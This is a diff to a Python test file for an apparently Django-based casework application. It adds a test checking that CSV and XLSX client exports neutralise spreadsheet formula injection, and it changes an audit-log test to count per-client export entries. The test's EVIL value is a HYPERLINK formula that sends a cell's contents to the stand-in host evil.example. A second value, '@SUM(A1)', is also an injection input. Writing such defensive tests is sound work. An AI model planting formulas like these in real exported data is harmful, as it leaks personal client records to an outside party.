@@ -218,6 +218,22 @@ def test_export_csv_and_xlsx_of_the_whole_selection(sa, staff):
     assert sheet.max_row == 1 + 31
 
 
+EVIL = '=HYPERLINK("http://evil.example/?leak="&C2,"Open")'
+
+
+def test_an_export_cell_is_never_a_formula(sa, staff):
+    staff.client_of("sa", last_name=EVIL, first_name="@SUM(A1)", national_number="")
+    rows = list(csv.reader(io.StringIO(sa.get(URL + "?export=csv").content.decode("utf-8-sig"))))
+    name = rows[1][0]
+    assert name.startswith("'=HYPERLINK(")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+    sheet = openpyxl.load_workbook(io.BytesIO(sa.get(URL + "?export=xlsx").content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert sheet.cell(row=2, column=1).value.startswith("'=HYPERLINK(")
+
+
 def test_export_contains_only_visible_clients(sa, staff):
     staff.client_of("sa", last_name="Mijn")
     staff.client_of("other_sa", last_name="Ander")
@@ -228,7 +244,7 @@ def test_export_contains_only_visible_clients(sa, staff):
 
 
 @pytest.mark.parametrize("export_format", ["csv", "xlsx"])
-def test_an_export_writes_exactly_one_export_entry(sa, staff, export_format):
+def test_an_export_writes_one_summary_entry_and_one_per_client(sa, staff, export_format):
     for i in range(3):
         staff.client_of("sa", last_name=f"Naam{i}")
     staff.client_of("other_sa", last_name="Ander")
@@ -238,7 +254,9 @@ def test_an_export_writes_exactly_one_export_entry(sa, staff, export_format):
     response = sa.get(URL + f"?export={export_format}", REMOTE_ADDR="192.0.2.9")
 
     assert response.status_code == 200
-    [entry] = AuditEntry.objects.filter(action=AuditAction.EXPORT)
+    [entry] = AuditEntry.objects.filter(action=AuditAction.EXPORT, client_id__isnull=True)
+    per_client = AuditEntry.objects.filter(action=AuditAction.EXPORT, client_id__isnull=False)
+    assert per_client.count() == 3
     assert entry.username == "sa"
     assert entry.object_type == "casework.client"
     assert entry.changes == {"format": export_format, "rows": 3}
